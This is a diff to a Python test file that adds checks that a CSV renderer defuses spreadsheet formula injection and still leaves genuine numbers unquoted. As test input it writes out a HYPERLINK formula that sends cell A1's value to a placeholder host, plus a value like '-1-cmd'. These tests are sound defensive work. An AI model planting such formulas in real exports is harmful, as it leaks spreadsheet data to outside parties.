@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import io
 from html.parser import HTMLParser
 from pathlib import Path
 
@@ -11,6 +12,7 @@ import pytest
 from controller.common.document.parts import Cell, Heading, Picture, ShellCommand, Table, counted, listing
 from controller.common.document.rendering import (
     aligned,
+    csv_cell,
     csv_text,
     html,
     markdown,
@@ -150,6 +152,25 @@ def test_csv_has_every_digit_and_an_empty_cell_for_none() -> None:
         ["", ""],
         ['say "x"', ""],
     ]
+
+
+@pytest.mark.parametrize("start", [*"=+-@\t\r\n", *"＝＋－＠"])
+def test_a_name_in_csv_is_no_formula(start: str) -> None:
+    """A cell with quotes, separators and line ends is protected as well, in the heading too."""
+    name = f'{start}HYPERLINK("http://x/?"&A1,"阀岛")'
+    heading, row = csv.reader(io.StringIO(csv_text((name, "b"), [(name, "valve")]), newline=""))
+    assert heading == [f"'{name}", "b"]
+    assert row == [f"'{name}", "valve"]
+
+
+@pytest.mark.parametrize("number", [-1, -0.5, "-1", "+2.5", "-1.5e-3", "-", "+1.", 0])
+def test_a_number_in_csv_stays_a_number(number: float | str) -> None:
+    assert csv_text(("a",), [(number,)]) == f"a\n{number}\n"
+
+
+@pytest.mark.parametrize("formula", ["-A1", "+1+1", "-1-cmd", "-e5", "--1", "-1\n", "-٣"])
+def test_a_text_that_begins_like_a_number_is_no_number(formula: str) -> None:
+    assert csv_cell(formula) == f"'{formula}"
 
 
 def test_csv_lines_end_as_the_reader_demands() -> None:
